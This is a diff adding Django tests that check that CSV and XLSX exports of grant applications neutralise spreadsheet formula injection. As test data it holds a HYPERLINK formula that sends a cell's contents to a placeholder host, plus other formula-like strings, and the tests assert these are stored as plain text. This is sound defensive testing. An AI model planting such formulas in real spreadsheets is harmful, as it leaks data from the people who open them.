@@ -1,6 +1,7 @@
 import csv
 import datetime
 import io
+import zipfile
 from decimal import Decimal
 
 from django.urls import reverse
@@ -103,3 +104,52 @@ def test_it_streams_csv_in_utf8_with_german_headers(client, leitung, known):
 def test_it_rejects_an_invalid_filter(client, leitung, known):
     response = _get(client, leitung, "zuwendungen", "csv", date_from="2024-13-01")
     assert response.status_code == 400
+
+
+FORMULA = '=HYPERLINK("http://x"&C2,"y")'
+RISKY_TITLES = {"a1": "@SUM(A1:A9)", "a2": "+49 5971 1234", "a3": "-2+3", "a4": "\tTab", "a5": "\rZeile"}
+
+
+def _inject(known):
+    from applicants.models import Organisation
+    from funding.models import Application
+
+    Organisation.objects.filter(pk__in=[org.pk for org in known.orgs]).update(name=FORMULA)
+    for title, text in RISKY_TITLES.items():
+        Application.objects.filter(title=title).update(title=text)
+
+
+def test_it_writes_formula_like_text_as_text_cells_in_xlsx(client, leitung, known):
+    _inject(known)
+    response = _get(client, leitung, "antraege", "xlsx", call=known.call.pk)
+    data = b"".join(response.streaming_content)
+    workbook = load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
+
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    names = [cell for cell in cells if cell.value == FORMULA]
+    assert len(names) == 7 and all(cell.data_type == "s" and cell.quotePrefix for cell in names)
+    texts = {cell.value for cell in cells if cell.data_type == "s"}
+    assert set(RISKY_TITLES.values()) <= texts
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
+    records = _records(workbook["Anträge"])
+    a1 = next(r for r in records if r["Titel"] == RISKY_TITLES["a1"])
+    row = next(row for row in workbook["Anträge"].iter_rows(min_row=2) if row[1].value == RISKY_TITLES["a1"])
+    assert a1["Beantragt"] == 5000 and row[10].data_type == "n" and row[8].is_date
+
+
+def test_it_neutralises_formula_like_text_in_csv(client, leitung, known):
+    _inject(known)
+    text = b"".join(_get(client, leitung, "antraege", "csv", call=known.call.pk).streaming_content).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
+
+    assert {row["Organisation"] for row in rows} == {"'" + FORMULA}
+    titles = {row["Titel"] for row in rows}
+    assert {"'" + value for value in RISKY_TITLES.values()} <= titles
+    cells = [value for row in rows for value in row.values()]
+    assert not [value for value in cells if value[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [value for value in cells if value.startswith("-") and not value.lstrip("-").replace(".", "").isdigit()]
+    a2 = next(row for row in rows if row["Aktenzeichen"] == "MSO-2024-a2")
+    assert a2["Beantragt"] == "10000.00" and a2["Eingegangen am"] == "2024-02-01"
